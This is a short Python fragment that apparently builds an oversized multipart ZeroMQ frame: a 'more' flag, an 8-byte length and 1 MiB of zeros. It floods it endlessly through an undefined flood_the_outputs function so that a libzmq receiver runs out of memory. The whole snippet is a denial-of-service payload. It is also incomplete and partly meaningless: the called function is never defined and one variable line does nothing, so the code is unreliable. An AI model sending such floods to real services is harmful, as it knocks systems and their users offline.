# error: writes parts of one message past libzmq, for ever: whoever keeps them until the last has no memory left.
import struct

acts = 12 + len("")
part = b"\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)  # more follows; a length of eight bytes
flood_the_outputs(part)
